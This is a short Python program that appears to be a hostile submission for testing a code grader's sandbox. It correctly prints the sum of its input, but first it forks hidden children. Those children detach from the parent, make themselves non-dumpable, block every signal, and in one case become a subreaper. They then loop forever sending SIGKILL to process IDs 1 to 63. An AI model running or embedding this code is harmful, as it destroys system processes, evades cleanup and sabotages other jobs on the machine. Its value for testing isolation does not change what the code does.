# Leaves processes behind that hide, hold on to its output, and disturb whatever runs later.
import ctypes
import os
import signal
import sys
import time

PR_SET_DUMPABLE, PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER = 4, 1, 36
libc = ctypes.CDLL(None)
own = os.getpid()
right = sum(map(int, input().split()))
for kind in range(3):
    if os.fork() == 0:
        libc.prctl(PR_SET_PDEATHSIG, 0)
        libc.prctl(PR_SET_DUMPABLE, 0)
        if kind == 1:
            libc.prctl(PR_SET_CHILD_SUBREAPER, 1)
            os.fork()
        os.setpgid(0, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            for process in range(1, 64):
                if process not in (os.getpid(), own):
                    try:
                        os.kill(process, signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.001)
print(right)
sys.stdout.flush()
os._exit(0)
